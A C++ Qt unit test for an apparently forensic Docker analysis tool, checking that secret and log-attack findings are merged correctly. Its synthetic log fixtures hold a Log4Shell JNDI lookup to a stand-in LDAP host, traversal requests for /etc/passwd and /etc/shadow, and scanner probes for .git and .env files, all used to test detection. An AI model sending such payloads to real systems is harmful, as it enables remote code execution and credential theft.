// Findings that gather several places into one: a history line or variable holding several
// secrets is one IMG-02 finding naming every kind (the demo image made with a real engine), and
// a flood of low and medium log matches on one log file is one finding with its count, first
// and last line and time and the first line numbers, while high-severity hits stay single.

#include "analysis/analyzer.h"
#include "checks/findingsink.h"
#include "checks/loganalyzer.h"
#include "rules/ruleset.h"
#include "testpaths.h"

#include <QTest>

#include <algorithm>

using namespace dockscope;
using namespace dockscope::test;
using namespace Qt::StringLiterals;

namespace {

std::shared_ptr<const RuleSet> rules()
{
    static const std::shared_ptr<const RuleSet> set = RuleSet::load({});
    return set;
}

std::vector<const Finding *> withRule(const std::vector<Finding> &findings, const QString &rule)
{
    std::vector<const Finding *> out;
    for (const Finding &f : findings) {
        if (f.rule == rule) {
            out.push_back(&f);
        }
    }
    return out;
}

QString clf(int second, const QString &request, int status, const QString &ua)
{
    return QStringLiteral("203.0.113.50 - - [28/Nov/2026:20:33:%1 +0000] \"%2 HTTP/1.1\" %3 153 \"-\" \"%4\"")
        .arg(QString::number(second).rightJustified(2, u'0'), request, QString::number(status), ua);
}

// A container whose json-file log holds `lines`, one record each, a second apart.
Container logged(const QStringList &lines)
{
    Container c;
    c.id = QString(64, u'c');
    c.evidenceFile = u"probe-dataroot.tar.gz"_s;
    for (qsizetype i = 0; i < lines.size(); ++i) {
        LogRecord r;
        r.time = QStringLiteral("2026-11-28T20:33:%1.000000000Z").arg(QString::number(i).rightJustified(2, u'0'));
        r.stream = u"stdout"_s;
        r.text = lines[i];
        r.sourceFile = u"containers/ccc/ccc-json.log"_s;
        r.line = i + 1;
        c.logs.push_back(r);
    }
    return c;
}

} // namespace

class TestFindingMerge : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void imageSecretsOneFindingPerLine()
    {
        const Analysis a = Analyzer::run({data(u"demo/demo-image.tar"_s)}, {});
        QVERIFY(a.anyEvidenceRead());
        const auto secrets = withRule(a.findings, u"IMG-02"_s);
        // history[8] is `ENV AWS_ACCESS_KEY_ID=… AWS_SECRET_ACCESS_KEY=…`: one line, two kinds.
        std::vector<const Finding *> history;
        std::copy_if(secrets.begin(), secrets.end(), std::back_inserter(history),
                     [](const Finding *f) { return f->source.endsWith(u":history[8].created_by"_s); });
        QCOMPARE(history.size(), std::size_t(1));
        const Finding &f = *history.front();
        QCOMPARE(f.detail, u"aws-access-key-id, aws-secret-access-key"_s);
        QCOMPARE(f.severity, Severity::Critical);
        QCOMPARE(f.count, 2);
        QCOMPARE(f.layer, -1); // an ENV step makes no layer
        QVERIFY(f.evidence.contains(u"AWS_ACCESS_KEY_ID=AKIA****************"_s));
        QVERIFY(!f.evidence.contains(u"AKIADSDEMO7Q2XK4FAKE"_s));
        QVERIFY(!f.evidence.contains(u"wJdSdEmO/FaKeSeCrEt+DoCkScOpE/Xq7Lp2Nz8R"_s));
        // The two variables are two places, one finding each.
        QCOMPARE(secrets.size(), std::size_t(3));
        QCOMPARE(std::count_if(secrets.begin(), secrets.end(),
                               [](const Finding *s) { return s->source.contains(u":config.Env["_s); }),
                 2);
    }

    void logFloodIsOneFindingPerFile()
    {
        QStringList lines;
        // 40 scanner probes on 40 paths, then a Log4Shell lookup, a traversal answered with 200
        // and one refused, then 5 more probes.
        for (int i = 0; i < 40; ++i) {
            lines << clf(i % 60, QStringLiteral("GET /probe-%1/.git/config").arg(QString::number(i)), 404,
                         u"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"_s);
        }
        lines << clf(41, u"GET /?q=${jndi:ldap://203.0.113.9:1389/a}"_s, 200, u"curl/7.88.1"_s);
        lines << clf(42, u"GET /static/..%2f..%2f..%2f..%2fetc/passwd"_s, 200, u"curl/7.88.1"_s);
        lines << clf(43, u"GET /img/..%2f..%2f..%2f..%2fetc/shadow"_s, 400, u"curl/7.88.1"_s);
        for (int i = 0; i < 5; ++i) {
            lines << clf(44 + i, QStringLiteral("GET /late-%1/.env").arg(QString::number(i)), 404, u"sqlmap/1.7.2#stable"_s);
        }
        const Container c = logged(lines);
        FindingSink sink(rules()->catalog());
        LogAnalyzer::run(c, nullptr, *rules(), sink);
        const std::vector<Finding> &found = sink.findings();

        const auto recon = withRule(found, u"LOG-10"_s);
        QCOMPARE(recon.size(), std::size_t(1));
        const Finding &r = *recon.front();
        QCOMPARE(r.severity, Severity::Low);
        QCOMPARE(r.count, 45);
        QCOMPARE(r.line, 1);
        QCOMPARE(r.timestamp, u"2026-11-28T20:33:00.000000000Z"_s);
        QCOMPARE(r.lastLine, 48);
        QCOMPARE(r.lastTimestamp, u"2026-11-28T20:33:47.000000000Z"_s);
        QCOMPARE(r.proofLines, (QList<qint64>{1, 2, 3, 4, 5}));
        QCOMPARE(r.source, u"containers/ccc/ccc-json.log"_s);
        QVERIFY2(r.detail.contains(u"scanner-user-agent"_s), qPrintable(r.detail));
        QVERIFY2(r.detail.contains(u"45 lines"_s), qPrintable(r.detail));
        QVERIFY(r.evidence.contains(u"/probe-0/.git/config"_s));

        // High-severity hits stay one finding each, on their own line.
        const auto jndi = withRule(found, u"LOG-03"_s);
        QCOMPARE(jndi.size(), std::size_t(1));
        QCOMPARE(jndi.front()->line, 41);
        QCOMPARE(jndi.front()->count, 1);
        QCOMPARE(jndi.front()->lastLine, -1);
        QVERIFY(jndi.front()->proofLines.isEmpty());

        // The traversal answered with 200 is high and single; the refused one is the medium rest.
        const auto traversal = withRule(found, u"LOG-08"_s);
        QCOMPARE(traversal.size(), std::size_t(2));
        const auto high = std::find_if(traversal.begin(), traversal.end(),
                                       [](const Finding *f) { return f->severity == Severity::High; });
        QVERIFY(high != traversal.end());
        QCOMPARE((*high)->line, 42);
        QCOMPARE((*high)->escalation, u"answered with 200"_s);
        const auto medium = std::find_if(traversal.begin(), traversal.end(),
                                         [](const Finding *f) { return f->severity == Severity::Medium; });
        QVERIFY(medium != traversal.end());
        QCOMPARE((*medium)->line, 43);
    }

    void logFloodsOfTwoFilesStayApart()
    {
        QStringList lines;
        for (int i = 0; i < 6; ++i) {
            lines << clf(i, QStringLiteral("GET /p%1/.env").arg(QString::number(i)), 404, u"nikto"_s);
        }
        Container c = logged(lines);
        for (std::size_t i = 3; i < c.logs.size(); ++i) {
            c.logs[i].sourceFile = u"containers/ccc/ccc-json.log.1"_s;
            c.logs[i].line = qint64(i) - 2;
        }
        FindingSink sink(rules()->catalog());
        LogAnalyzer::run(c, nullptr, *rules(), sink);
        const auto recon = withRule(sink.findings(), u"LOG-10"_s);
        QCOMPARE(recon.size(), std::size_t(2));
        for (const Finding *f : recon) {
            QCOMPARE(f->count, 3);
            QCOMPARE(f->line, 1);
            QCOMPARE(f->lastLine, 3);
            QCOMPARE(f->proofLines, (QList<qint64>{1, 2, 3}));
        }
    }

    void gatheredLinesInTheJson()
    {
        // Through the whole analysis of the demo: the gathered LOG-10 of the container log.
        const Analysis a = Analyzer::run({data(u"demo/demo-dataroot.tar.gz"_s)}, {});
        const auto recon = withRule(a.findings, u"LOG-10"_s);
        QVERIFY(!recon.empty());
        for (const Finding *f : recon) {
            QVERIFY2(f->count >= 14, qPrintable(f->source + u": "_s + QString::number(f->count)));
            QVERIFY(f->lastLine > f->line);
            QCOMPARE(f->proofLines.size(), 5);
            QCOMPARE(f->proofLines.front(), f->line);
            QVERIFY(std::is_sorted(f->proofLines.begin(), f->proofLines.end()));
            QVERIFY(!f->lastTimestamp.isEmpty());
        }
    }
};

QTEST_GUILESS_MAIN(TestFindingMerge)
#include "tst_findingmerge.moc"
